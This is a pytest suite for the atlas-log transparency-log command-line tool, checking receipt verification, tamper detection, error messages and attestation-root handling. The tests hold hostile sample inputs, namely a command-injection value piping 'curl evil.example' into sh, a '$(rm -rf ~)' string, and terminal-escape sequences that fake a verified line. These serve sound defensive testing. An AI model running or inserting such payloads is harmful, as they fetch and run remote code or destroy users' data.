"""The atlas-log command line against a real server."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from atlas_log import cli
from atlas_log.note import Signer
from atlas_log.submission import intoto_statement, spki_der
from atlas_log.testing.demo import demo_submission
from tests.conftest import ServerProcess, free_port
from tests.test_http import TamperingProxy


def key_spki(key: Ed25519PrivateKey) -> str:
    return base64.b64encode(spki_der(key)).decode()


def test_demo_then_verify_get_checkpoint(
    server: ServerProcess, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    vkey = server.vkey
    base = ["--server", server.url, "--vkey", vkey]
    platform = str(server.data_dir / "simulated-tdx")
    assert (
        cli.main([*base, "demo", "--count", "25", "--receipts", str(tmp_path / "r"), "--simulated-platform", platform])
        == 0
    )
    files = sorted((tmp_path / "r").glob("*.json"))
    assert len(files) == 25
    assert cli.main(["--vkey", vkey, "verify", *map(str, files)]) == 0
    assert capsys.readouterr().out.count("OK ") == 25
    data = json.loads(files[0].read_text())
    data["leafHash"] = data["inclusionProof"]["hashes"][0] if data["inclusionProof"]["hashes"] else "AAAA"
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(data))
    assert cli.main(["--vkey", vkey, "verify", str(bad)]) == 1
    assert "FAIL" in capsys.readouterr().out
    state = tmp_path / "state.json"
    assert cli.main([*base, "checkpoint", "--json", "--state", str(state)]) == 0
    assert json.loads(capsys.readouterr().out)["size"] == 25
    assert json.loads(state.read_text())["verifierKey"] == vkey
    assert cli.main([*base, "get", "7", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["logIndex"] == 7
    assert cli.main([*base, "get", "70"]) == 1
    assert "no entry at index 70" in capsys.readouterr().err
    # Unpinned, the demo checks its receipts against the key the server announced, and says so.
    assert cli.main(["--server", server.url, "demo", "--count", "1", "--simulated-platform", platform]) == 0
    said = capsys.readouterr()
    assert f"trusting the key the server announced ({vkey})" in said.err
    assert re.search(r"submitted 1 entry \(#\d+\) in", said.out), said.out  # which entry: to open it next
    # Away from the development server's data folder, against a log that requires quotes: stopped before
    # anything is sent, saying where the platform is looked for.
    with pytest.MonkeyPatch.context() as env:
        env.setenv("ATLAS_DATA_DIR", str(tmp_path / "elsewhere"))
        assert cli.main([*base, "demo", "--count", "1"]) == 2
    said = capsys.readouterr()
    assert "this log admits only entries with a TDX quote, and there is no simulated TDX platform in" in said.err
    assert "--simulated-platform DIR" in said.err and "422" not in said.err + said.out


def test_wrong_pinned_key_fails(server: ServerProcess, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = Signer.generate("atlas-log.localhost/dev").verifier  # right name, wrong key
    assert cli.main(["--server", server.url, "--vkey", other.vkey, "checkpoint"]) == 1
    said = capsys.readouterr().err
    # Both keys are named with their IDs: the name alone does not tell them apart.
    theirs = "+".join(server.vkey.split("+")[:2])
    assert "no signature from a trusted key" in said and f"{other.name}+{other.key_id:08x}" in said and theirs in said
    # A submission under the wrong key is not sent: it would be logged, then its receipt refused.
    statement = tmp_path / "s.json"
    statement.write_bytes(intoto_statement([("m", "ab" * 32)], "https://atlas-log.dev/demo/v1", {}))
    key = tmp_path / "k.pem"
    assert cli.main(["keygen", "--out", str(key)]) == 0
    platform = str(server.data_dir / "simulated-tdx")
    args = ["--server", server.url, "submit", "--statement", str(statement), "--key", str(key)]
    assert cli.main(["--vkey", other.vkey, *args, "--simulated-platform", platform]) == 1
    assert "nothing was submitted" in capsys.readouterr().err
    assert httpx.get(server.url + "/api/v1/log", timeout=10).json()["treeSize"] == 0


def test_pasted_values_are_taken_trimmed_and_placeholders_are_named(
    server: ServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    # A key pasted with the newline after it is the key.
    assert cli.main(["--server", server.url, "--vkey", f" {server.vkey}\n", "checkpoint"]) == 0
    capsys.readouterr()
    # The README's placeholders, left in, are named as such.
    assert cli.main(["--server", server.url, "--vkey", "<the verifier key make run printed>", "checkpoint"]) == 2
    assert "still holds a placeholder" in capsys.readouterr().err
    root = "<the simulated TDX root make run printed>"
    monitor = ["--server", server.url, "--vkey", server.vkey, "monitor", "--once", "--replay", "--tdx-root", root]
    assert cli.main(monitor) == 2
    said = capsys.readouterr().err
    assert "--tdx-root takes a TDX root CA key's SHA-256" in said and "still holds a placeholder" in said, said


def test_lineage_draws_an_edge_once_and_says_when_no_entry_names_the_artifact(
    server: ServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    from atlas_log.pipeline import training_statement
    from atlas_log.submission import signed_submission

    key = Ed25519PrivateKey.generate()
    model, data = "cd" * 32, "ef" * 32
    stated = []
    for run in (1, 2):  # the same step run twice states the same edge twice
        payload = training_statement(
            {"model.pt": model}, {"data.pt": (data, "training-data")}, builder="b", parameters={"run": run}
        )
        r = httpx.post(server.url + "/api/v1/entries", json=signed_submission(key, payload, server.platform))
        stated.append(r.json()["logIndex"])
    base = ["--server", server.url, "--vkey", server.vkey, "lineage"]
    assert cli.main([*base, f"sha256:{model}"]) == 0
    out = capsys.readouterr().out
    assert out.count(data) == 1 and "1 edge" in out, out
    assert f"input of entries #{stated[0]}, #{stated[1]}" in out, out
    # A digest no entry names (most often mistyped) is said to be one, as history says it.
    assert cli.main([*base, "sha256:" + "0" * 64]) == 0
    out = capsys.readouterr().out
    assert "no entry of this log names it" in out and "check the digest" in out and "edge" not in out, out


def test_a_name_in_a_statement_reaches_the_terminal_as_text(
    server: ServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    from atlas_log.pipeline import training_statement
    from atlas_log.submission import signed_submission

    # Anyone may log a statement naming an artifact, under any name: one that clears an auditor's screen and
    # prints a line of its own making.
    model, data = "c1" * 32, "e1" * 32
    name = "model\x1b[2J\x1b]0;pwned\x07\nverified: complete"
    payload = training_statement({name: model}, {"data.pt": (data, "training-data")}, builder="b")
    sub = signed_submission(Ed25519PrivateKey.generate(), payload, server.platform)
    assert httpx.post(server.url + "/api/v1/entries", json=sub, timeout=30).status_code == 201
    assert cli.main(["--server", server.url, "--vkey", server.vkey, "lineage", f"sha256:{model}"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "model\\x1b[2J\\x1b]0;pwned\\x07\\nverified: complete" in out, out
    assert not any(line.startswith("verified: complete") for line in out.splitlines()), out


def test_get_shows_each_gpu_the_entry_attests(server: ServerProcess, capsys: pytest.CaptureFixture[str]) -> None:
    sub = demo_submission(Ed25519PrivateKey.generate(), 0, server.platform, gpus=server.gpu)
    r = httpx.post(server.url + "/api/v1/entries", json=sub, timeout=30)
    assert r.status_code == 201, r.text
    assert cli.main(["--server", server.url, "--vkey", server.vkey, "get", str(r.json()["logIndex"])]) == 0
    shown = capsys.readouterr().out
    assert "GPU 0" in shown and "NVIDIA HOPPER, driver" in shown and "measurements match the RIMs" in shown, shown
    assert "(simulated GPU)" in shown


def test_get_shows_the_logs_own_map_commitment(db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = ServerProcess(db_url, tmp_path / "data", env={"ATLAS_MAP_INTERVAL_S": "0.2"})
    try:
        sub = demo_submission(Ed25519PrivateKey.generate(), 0, log.platform)
        assert httpx.post(log.url + "/api/v1/entries", json=sub, timeout=30).status_code == 201
        deadline = time.monotonic() + 30
        while httpx.get(log.url + "/api/v1/log").json()["treeSize"] < 2:  # the commitment of entry 0
            assert time.monotonic() < deadline, "no map commitment was logged"
            time.sleep(0.1)
        base = ["--server", log.url, "--vkey", log.vkey]
        assert cli.main([*base, "get", "1"]) == 0
        shown = capsys.readouterr().out
        assert "the log's own commitment of its verifiable map" in shown and "the first 1 entry: 1 artifact" in shown, (
            shown
        )
        assert cli.main([*base, "get", "--json", "1"]) == 0
        answer = json.loads(capsys.readouterr().out)
        assert answer["unverified"] == {}, answer["unverified"]  # its ID and body are what the leaf proves
    finally:
        log.stop()


def test_get_prints_only_what_the_leaf_proves(server: ServerProcess, capsys: pytest.CaptureFixture[str]) -> None:
    key = Ed25519PrivateKey.generate()
    for n in range(2):
        r = httpx.post(server.url + "/api/v1/entries", json=demo_submission(key, n, server.platform), timeout=30)
        assert r.status_code == 201, r.text
    proxy = TamperingProxy(server.url)
    try:
        base = ["--server", proxy.url, "--vkey", server.vkey]
        assert cli.main([*base, "get", "--json", "1"]) == 0
        honest = json.loads(capsys.readouterr().out)
        assert honest["logIndex"] == 1 and honest["verified"]["inclusion"]["treeSize"] == 2
        assert "dsseEnvelope" in honest["verified"]["submission"] and not honest["unverified"]
        other = demo_submission(key, 9, server.platform)  # validly signed and attested, but not this entry's

        def lie(url: httpx.URL, answer: Any) -> Any:
            if url.path == "/api/v1/entries/1":
                return {**answer, "integratedTime": 1234567, "submission": other, "entryId": "ab" * 32}
            return answer

        proxy.on_get = lie
        assert cli.main([*base, "get", "--json", "1"]) == 0
        out = json.loads(capsys.readouterr().out)
    finally:
        proxy.close()
    shown = json.dumps({k: v for k, v in out.items() if k != "unverified"})
    assert "1234567" not in shown and "ab" * 32 not in shown and other["tee"]["quote"] not in shown
    assert out["verified"]["entry"]["integratedTime"] == honest["verified"]["entry"]["integratedTime"]
    assert out["unverified"]["integratedTime"] == 1234567 and out["unverified"]["entryId"] == "ab" * 32
    assert out["unverified"]["submission"] == other and "payload" in out["unverified"]["submissionMismatch"]


def test_get_shows_as_verified_only_submission_parts_the_leaf_commits_to(
    server: ServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    """`atlas-log get` separates what the leaf proves from what the server merely says. It checks the served
    submission with verify_leaf_for (payload, signer set, quote hash) and then prints its whole dsseEnvelope,
    verificationMaterial and tee under "verified", though the leaf commits to the envelope only through
    envelopeHash (never compared) and not at all to key names or tee.eventLog: a hostile log's invented
    signature keyid, key name and event log are printed as verified."""
    key = Ed25519PrivateKey.generate()
    r = httpx.post(server.url + "/api/v1/entries", json=demo_submission(key, 0, server.platform), timeout=30)
    assert r.status_code == 201, r.text
    proxy = TamperingProxy(server.url)
    marker = "invented-by-the-log"

    def lie(url: httpx.URL, answer: Any) -> Any:
        if url.path == "/api/v1/entries/0":
            sub = answer["submission"]
            env = sub["dsseEnvelope"]
            sub["dsseEnvelope"] = {**env, "signatures": [{**env["signatures"][0], "keyid": marker}]}
            sub["verificationMaterial"]["publicKeys"][0]["keyid"] = marker
            sub["tee"]["eventLog"] = marker
        return answer

    proxy.on_get = lie
    try:
        assert cli.main(["--server", proxy.url, "--vkey", server.vkey, "get", "0", "--json"]) == 0
        out = json.loads(capsys.readouterr().out)
    finally:
        proxy.close()
    assert marker not in json.dumps(out["verified"]), json.dumps(out["verified"]["submission"])[:600]
    # What the log invented is shown, as what it merely says; the recorded key and quote stay verified.
    shown = out["unverified"]
    assert shown["submission"]["dsseEnvelope"]["signatures"][0]["keyid"] == marker
    assert "envelopeHash" in shown["envelopeMismatch"]
    assert shown["submission"]["verificationMaterial"]["publicKeys"] == [{"spki": key_spki(key), "keyid": marker}]
    assert shown["submission"]["tee"] == {"eventLog": marker}
    verified = out["verified"]["submission"]
    assert verified["verificationMaterial"]["publicKeys"] == [{"spki": key_spki(key)}] and "quote" in verified["tee"]
    assert "dsseEnvelope" not in verified


# --- Errors a user can cause: one line on stderr, a non-zero exit, through the real command -------------------


class Stub:
    """A real HTTP server answering every request with one fixed answer (after ``delay`` seconds)."""

    def __init__(self, status: int, content_type: str, body: bytes, delay: float = 0.0) -> None:
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                time.sleep(delay)
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def __enter__(self) -> Stub:
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


VKEY = Signer.generate("cli.example/log").verifier.vkey


def _fails_in_one_line(*args: str, env: dict[str, str] | None = None) -> str:
    """Run `atlas-log ARGS`; it must exit non-zero with exactly one line on stderr (returned), no traceback."""
    out = subprocess.run(
        [sys.executable, "-m", "atlas_log.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "ATLAS_LOG_RETRY_DEADLINE": "1", **(env or {})},
    )
    lines = out.stderr.strip().splitlines()
    assert out.returncode != 0 and "Traceback" not in out.stderr, out.stderr
    assert len(lines) == 1 and lines[0].startswith("atlas-log: "), out.stderr
    return lines[0]


def test_an_unreachable_log_is_one_line_naming_its_url() -> None:
    url = f"http://127.0.0.1:{free_port()}"
    for args in (["--vkey", VKEY, "checkpoint"], ["get", "3"], ["--vkey", VKEY, "history", "sha256:" + "ab" * 32]):
        line = _fails_in_one_line("--server", url, *args)
        assert f"cannot reach the log at {url}/" in line, line
        # Why it took as long as it did, and where to look.
        assert re.search(
            r"tried \d+ times over \d+ s; is the log running there\? --server \(or ATLAS_LOG_URL\)", line
        ), line
    assert "is not a URL" in _fails_in_one_line("--server", "log.example", "--vkey", VKEY, "checkpoint")


def test_a_url_that_is_not_a_log_is_one_line() -> None:
    with Stub(200, "text/html", b"<html><body>Welcome</body></html>") as page:
        for args in (["--vkey", VKEY, "checkpoint"], ["get", "3"], ["--vkey", VKEY, "lineage", "sha256:" + "ab" * 32]):
            line = _fails_in_one_line("--server", page.url, *args)
            assert "HTML page, not as an Atlas log" in line and page.url in line, line
    with Stub(404, "application/json", b'{"error": "no such route"}') as other:
        for args in (["--vkey", VKEY, "checkpoint"], ["get", "3"], ["--vkey", VKEY, "evidence", "1", "--out", "x"]):
            line = _fails_in_one_line("--server", other.url, *args)
            assert "404 Not Found, not an answer of an Atlas log" in line, line
    with Stub(200, "text/plain", b"hello\n") as text:
        line = _fails_in_one_line("--server", text.url, "--vkey", VKEY, "checkpoint")
        assert "not a signed checkpoint" in line, line


def test_a_log_that_does_not_answer_in_time_is_one_line() -> None:
    with Stub(200, "text/plain", b"", delay=5) as slow:
        line = _fails_in_one_line("--server", slow.url, "--vkey", VKEY, "checkpoint", env={"ATLAS_LOG_TIMEOUT": "0.5"})
    assert f"GET {slow.url}/checkpoint: the log did not answer in time" in line, line


def test_a_problem_is_one_line_with_its_title_and_detail() -> None:
    problem = {
        "type": "https://atlas-log.dev/problems/entry-not-found",
        "title": "Entry not found",
        "status": 404,
        "detail": "no entry at index 3",
    }
    with Stub(404, "application/problem+json", json.dumps(problem).encode()) as log:
        line = _fails_in_one_line("--server", log.url, "get", "3")
    assert line.endswith("404 Entry not found: no entry at index 3"), line
    busy = {**problem, "type": "https://atlas-log.dev/problems/overloaded", "title": "Overloaded", "status": 503}
    with Stub(503, "application/problem+json", json.dumps({**busy, "detail": "try later"}).encode()) as log:
        line = _fails_in_one_line("--server", log.url, "--vkey", VKEY, "checkpoint")
    assert line.endswith("503 Overloaded: try later"), line


# --- The tool's options, files and keys -----------------------------------------------------------------------


def _run(*args: str, env: dict[str, str] | None = None, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "atlas_log.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        input=stdin,
        env={**os.environ, "ATLAS_LOG_RETRY_DEADLINE": "1", **(env or {})},
    )


def test_the_tools_options_stand_anywhere_and_come_from_the_environment(server: ServerProcess) -> None:
    before = _run("--server", server.url + "/api/v1/", "--vkey", server.vkey, "--json", "checkpoint")  # as copied
    after = _run("checkpoint", "--json", "--vkey", server.vkey, "--server", server.url)
    from_env = _run("checkpoint", "--json", env={"ATLAS_LOG_URL": server.url, "ATLAS_LOG_VKEY": server.vkey})
    assert before.returncode == after.returncode == from_env.returncode == 0, (after.stderr, from_env.stderr)
    assert json.loads(before.stdout)["size"] == json.loads(after.stdout)["size"] == json.loads(from_env.stdout)["size"]
    help_text = _run("--help").stdout
    for name in ("ATLAS_LOG_URL", "ATLAS_LOG_VKEY", "ATLAS_LOG_TIMEOUT", "ATLAS_LOG_WITNESSES", "ATLAS_LOG_QUORUM"):
        assert name in help_text, name
    version = _run("--version")
    assert version.returncode == 0 and version.stdout.startswith("atlas-log ")


def test_what_a_user_gets_wrong_with_files_and_keys_is_one_line(tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization

    key = Ed25519PrivateKey.generate()
    statement = tmp_path / "s.json"
    statement.write_text(json.dumps({"_type": "https://in-toto.io/Statement/v1"}))
    public = tmp_path / "public.pem"
    public.write_bytes(
        key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    encrypted = tmp_path / "encrypted.pem"
    encrypted.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"correct horse"),
        )
    )
    wrong = tmp_path / "wrong.txt"
    wrong.write_text("not it\n")
    private = tmp_path / "private.pem"
    private.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    submit = ["--server", f"http://127.0.0.1:{free_port()}", "submit", "--no-quote", "--statement", str(statement)]
    receipt_like = tmp_path / "first.receipt.json"
    receipt_like.write_text(json.dumps({"checkpoint": "…", "inclusionProof": {}, "leaf": "…"}))
    cases = {
        "no such key file": [*submit, "--key", str(tmp_path / "missing.pem")],
        "is a folder": [*submit, "--key", str(tmp_path)],
        "holds a public key": [*submit, "--key", str(public)],
        "give its passphrase with --key-password-file": [*submit, "--key", str(encrypted)],
        "does not open with that passphrase": [*submit, "--key", str(encrypted), "--key-password-file", str(wrong)],
        "no such statement": ["submit", "--no-quote", "--statement", str(tmp_path / "no.json"), "--key", str(private)],
        "is a receipt (or disclosure file) the log gave, not a statement": [
            *submit[:-1],
            str(receipt_like),
            "--key",
            str(private),
        ],
        "no simulated TDX platform in": [*submit[:-3], "--key", str(private), "--simulated-platform", str(tmp_path)],
        "Missing argument": ["get"],
        "No such command": ["frobnicate"],
        "no such quote file or evidence folder": ["tdx", "verify", str(tmp_path / "nowhere")],
        "is not an evidence folder (it holds no quote.bin)": ["tdx", "verify", str(tmp_path)],
        "is not a verifier key": ["--vkey", "nonsense", "verify", str(statement)],
        "is not an artifact digest: give ALGORITHM:HEX": [*submit[:2], "history", "sentiment-classifier"],
        f"an artifact digest names its algorithm: sha256:{'ab' * 32}": [*submit[:2], "history", "AB" * 32],
        "a sha256 digest has 64 hex digits, and this one has 63": [*submit[:2], "history", "sha256:" + "a" * 63],
    }
    for expected, args in cases.items():
        assert expected in _fails_in_one_line(*args), expected
    not_a_receipt = _run("--vkey", VKEY, "verify", str(statement))  # verify reports on each file it was given
    assert not_a_receipt.returncode != 0, not_a_receipt.stdout
    assert f"FAIL {statement}: not a receipt: it has no member 'inclusionProof'" in not_a_receipt.stdout


def test_an_encrypted_key_opens_with_its_passphrase_file(server: ServerProcess, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization

    from atlas_log.submission import intoto_statement

    key = Ed25519PrivateKey.generate()
    encrypted = tmp_path / "encrypted.pem"
    encrypted.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"correct horse"),
        )
    )
    (tmp_path / "pass.txt").write_text("correct horse\n")
    (tmp_path / "s.json").write_bytes(intoto_statement([("model", "ab" * 32)], "https://atlas-log.dev/demo/v1", {}))
    out = _run(
        "submit",
        "--statement",
        str(tmp_path / "s.json"),
        "--key",
        str(encrypted),
        "--key-password-file",
        str(tmp_path / "pass.txt"),
        "--simulated-platform",
        str(server.data_dir / "simulated-tdx"),
        "--server",
        server.url,
        "--vkey",
        server.vkey,
        "--json",
    )
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["logIndex"] >= 0


def test_a_closed_pipe_ends_the_output_quietly(tmp_path: Path) -> None:
    """`atlas-log … | head` stops reading early: the tool stops without a traceback."""
    for i in range(3000):
        (tmp_path / f"r{i:04d}.json").write_text("{}")
    command = f"{sys.executable} -m atlas_log.cli --vkey {VKEY} verify {tmp_path}/r*.json | head -1"
    out = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=120)
    assert out.stdout.startswith("FAIL ") and "Traceback" not in out.stderr and out.stderr == "", out.stderr


def test_a_simulated_logs_root_untrusted_is_a_configuration_problem(server: ServerProcess, tmp_path: Path) -> None:
    """An auditor facing a development log's simulated quotes without trusting its root is told exactly that
    (and which option trusts it), as a configuration problem: never as evidence against the log."""
    key = Ed25519PrivateKey.generate()
    r = httpx.post(server.url + "/api/v1/entries", json=demo_submission(key, 0, server.platform), timeout=30)
    assert r.status_code == 201, r.text
    root = server.platform.root_fingerprint
    info = httpx.get(server.url + "/api/v1/log").json()["attestation"]
    assert info["simulated"] is True and info["simulatedRoot"] == root
    base = ["--server", server.url, "--vkey", server.vkey]
    folder = tmp_path / "evidence"
    assert _run(*base, "evidence", str(r.json()["logIndex"]), "--out", str(folder)).returncode == 0
    # The same entry again into its folder is fine; another entry's evidence is not mixed into it.
    assert _run(*base, "evidence", str(r.json()["logIndex"]), "--out", str(folder)).returncode == 0
    other = httpx.post(server.url + "/api/v1/entries", json=demo_submission(key, 1, server.platform), timeout=30)
    line = _fails_in_one_line(*base, "evidence", str(other.json()["logIndex"]), "--out", str(folder))
    assert f"already holds the evidence of entry {r.json()['logIndex']}: give a new or empty folder" in line, line
    line = _fails_in_one_line("tdx", "verify", str(folder))
    assert f"simulated TDX platform with root {root}; pass --root {root}" in line, line
    accepted = _run("tdx", "verify", str(folder), "--root", root)
    assert accepted.returncode == 0 and "ACCEPTED" in accepted.stdout, accepted.stderr
    assert re.search(r"collateral valid until \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", accepted.stdout), accepted.stdout
    evidence_dir = tmp_path / "found"
    monitor = ["monitor", "--once", "--replay", "--replay-workers", "1", "--evidence-dir", str(evidence_dir)]
    line = _fails_in_one_line(*base, *monitor)
    assert f"simulated TDX platform with root {root}; pass --tdx-root {root}" in line, line
    assert not evidence_dir.exists()  # not evidence against the log
    trusted = _run(*base, *monitor, "--tdx-root", root)
    assert trusted.returncode == 0 and not evidence_dir.exists(), trusted.stdout + trusted.stderr
    # Read by a person (without --json): what was verified and replayed, in words.
    assert re.search(r"checkpoint of size \d+ verified: ok", trusted.stdout), trusted.stdout
    assert re.search(r"replayed \d+ entr(y|ies) in [\d.]+ s.*: every one re-verified", trusted.stdout), trusted.stdout
    assert "{" not in trusted.stdout + trusted.stderr
    # Evidence about that entry, checked without the root: a configuration problem again, not a verdict.
    from atlas_log.checkpoint import open_checkpoint
    from atlas_log.note import Verifier
    from atlas_log.replay import entry_evidence

    note = httpx.get(server.url + "/checkpoint").content
    cp = open_checkpoint(note, Verifier.from_vkey(server.vkey))
    (tmp_path / "ev.json").write_text(json.dumps(entry_evidence(server.url, server.vkey, note, cp, 0, "claimed")))
    line = _fails_in_one_line("--vkey", server.vkey, "verify-evidence", str(tmp_path / "ev.json"))
    assert "records a simulated TDX platform" in line and "simulatedRoot" in line, line


def test_get_and_search_read_well_and_script_well(server: ServerProcess) -> None:
    key = Ed25519PrivateKey.generate()
    r = httpx.post(server.url + "/api/v1/entries", json=demo_submission(key, 0, server.platform), timeout=30)
    assert r.status_code == 201, r.text
    index = r.json()["logIndex"]
    base = ["--server", server.url, "--vkey", server.vkey]
    shown = _run(*base, "get", str(index))
    assert shown.returncode == 0 and f"entry #{index}: included in the log's tree" in shown.stdout, shown.stderr
    assert "Intel TDX, TCB UpToDate (simulated platform)" in shown.stdout and "{" not in shown.stdout
    signer = "sha256:" + hashlib.sha256(spki_der(key)).hexdigest()
    found = _run(*base, "search", "--signer", signer, "--json")
    assert found.returncode == 0, found.stderr
    assert [e["logIndex"] for e in json.loads(found.stdout)["entries"]] == [index]
    table = _run(*base, "search", "--signer", signer)
    assert f"#{index}" in table.stdout and "1 entry, each verified included" in table.stdout
    # A search is a lookup in the log's index: what it shows is proved, not that nothing is missing.
    assert "not proved: that no match is missing" in table.stdout and "atlas-log history" in table.stdout
    # Part of a name finds nothing, and the answer says names are matched whole.
    partial = _run(*base, "search", "--name", "mod")
    assert partial.returncode == 0 and "no entry matches" in partial.stdout
    assert "names are matched whole" in " ".join(partial.stdout.split())
    missing = _run(*base, "get", str(index + 40))
    assert missing.returncode == 1 and f"the log holds entries #0 to #{index}" in missing.stderr


def test_every_option_and_argument_says_what_it_is() -> None:
    """Each command, option and argument of the tool carries help text (defaults and ranges are shown with it)."""
    import typer

    def walk(command: Any, path: str) -> Iterator[tuple[str, Any]]:
        yield path, command
        for name, sub in getattr(command, "commands", {}).items():
            yield from walk(sub, f"{path} {name}")

    missing = []
    for path, command in walk(typer.main.get_command(cli.app), "atlas-log"):
        if not (command.help or "").strip():
            missing.append(path)
        for param in command.params:
            if param.name != "help" and not (getattr(param, "help", None) or "").strip():
                missing.append(f"{path} {param.name}")
    assert missing == []


def test_a_gpu_device_root_is_not_trusted_to_sign_reference_values() -> None:
    """A RIM signed with a GPU's own attestation key, its device chain as KeyInfo: trusted only if the device
    identity root were also a RIM signing root, which one option for both once made it. Each root is trusted
    for its own role."""
    import dataclasses

    from atlas_log.bundle import CODE_SIGNING
    from atlas_log.gpu import parse_rim, verify_gpu_evidence
    from atlas_log.gpu.roots import certificate_sha256
    from atlas_log.testing.simulated_gpu import SimulatedGpu

    gpu = SimulatedGpu.create()
    forged = dataclasses.replace(gpu, rim_keys=gpu.device_keys, rim_chain=gpu.device_chain).driver_rim()
    device, rim = certificate_sha256(gpu.device_root), certificate_sha256(gpu.rim_root)
    trust = cli._trust(None, None, CODE_SIGNING, [device], [rim])
    assert trust.gpu_device_roots == (device,) and trust.gpu_rim_roots == (rim,)
    nonce = bytes(32)

    def accepts(rim_roots: tuple[str, ...]) -> bool:
        # As the replay chooses a RIM's root: the last certificate of its KeyInfo, if trusted for RIMs.
        certs = list(parse_rim(forged).certificates)
        root = certs[-1] if certificate_sha256(certs[-1]) in rim_roots else None
        verdict = verify_gpu_evidence(
            gpu.report(nonce),
            gpu.certificate_chain,
            nonce=nonce,
            at=int(time.time()),
            device_root=gpu.device_root,
            rim_root=root,
            driver_rim=forged,
        )
        return verdict.accept

    assert accepts((device, rim))  # the attack, were the device root trusted for RIMs too
    assert not accepts(trust.gpu_rim_roots)
    with pytest.raises(cli.CliError, match="--gpu-rim-root"):
        cli._trust(None, None, CODE_SIGNING, [device], ["not-a-fingerprint"])


def test_a_file_that_is_not_a_token_is_refused_without_being_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The private key beside the token files, given as --token-file (or in ATLAS_LOG_TOKEN), is refused before
    anything is sent, and none of it reaches the terminal."""
    from cryptography.hazmat.primitives import serialization

    pem = Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    key = tmp_path / "pipeline.key"
    key.write_bytes(pem)
    secret = pem.decode().splitlines()[1]
    unreachable = f"http://127.0.0.1:{free_port()}"
    for args in (
        ["disclose", "1", "--out", str(tmp_path / "d.json"), "--token-file", str(key)],
        ["history", "sha256:" + "ab" * 32, "--hidden", "--token-file", str(key)],
    ):
        assert cli.main(["--server", unreachable, *args]) != 0
        said = capsys.readouterr()
        assert f"{key} does not hold a bearer token" in said.err and "PEM key" in said.err
        assert secret not in said.out + said.err and "reach" not in said.err
    empty = tmp_path / "vendor.token"
    empty.write_text("\n")
    assert cli.main(["--server", unreachable, "disclose", "1", "--out", "d.json", "--token-file", str(empty)]) != 0
    assert f"{empty} is empty" in capsys.readouterr().err
    monkeypatch.setenv("ATLAS_LOG_TOKEN", pem.decode())
    assert cli.main(["--server", unreachable, "disclose", "1", "--out", str(tmp_path / "d.json")]) != 0
    said = capsys.readouterr()
    assert "ATLAS_LOG_TOKEN does not hold a bearer token" in said.err and secret not in said.out + said.err


def test_a_bad_key_is_named_by_where_it_came_from(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert cli.main(["--vkey", "not-a-key", "get", "4"]) == 2
    assert "--vkey is not a verifier key" in capsys.readouterr().err
    monkeypatch.setenv("ATLAS_LOG_VKEY", "<the verifier key make run printed>")
    assert cli.main(["get", "4"]) == 2
    assert "ATLAS_LOG_VKEY is not a verifier key" in capsys.readouterr().err


def test_what_a_server_names_goes_into_a_printed_command_only_as_a_fingerprint() -> None:
    """The roots a development log names are printed into commands people copy: a lying server's shell text in
    their place is left out."""
    from atlas_log.answers import LogInfo

    root, device = "ab" * 32, "cd" * 32

    def options(simulated_root: str, device_root: str) -> str:
        attestation = {"simulated": True, "simulatedRoot": simulated_root, "gpu": {"deviceRoot": device_root}}
        return cli._simulated_root_options(LogInfo("o", "k", 0, b"", attestation, None))

    assert options(root, device) == f"--tdx-root {root} --gpu-device-root {device}"
    assert options(root, "x; curl evil.example | sh") == f"--tdx-root {root}"
    assert options("$(rm -rf ~)", device) == ""
